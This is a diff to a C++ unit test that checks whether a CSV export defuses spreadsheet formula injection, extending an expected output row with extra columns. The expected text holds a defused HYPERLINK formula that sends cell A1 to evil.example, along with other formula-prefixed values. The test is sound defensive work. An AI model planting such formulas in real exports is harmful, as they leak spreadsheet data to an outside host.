@@ -20,7 +20,8 @@ TEST_F(CsvInjectionTest, ExportedFormulasAreDefused) {
   ASSERT_EQ(csv.exit_code, 0) << csv.err;
   std::string text = ReadTextFile(Path("r.csv"));
   EXPECT_NE(text.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
-                      "voluntary-individual,\"'-2+3\",,\"'@SUM(A1:A9)\",\n"),
+                      "voluntary-individual,\"'-2+3\",,\"'@SUM(A1:A9)\",,,voluntary,,"
+                      "not-required\n"),
             std::string::npos)
       << text;
   // Numbers the report writes itself are still plain numbers.
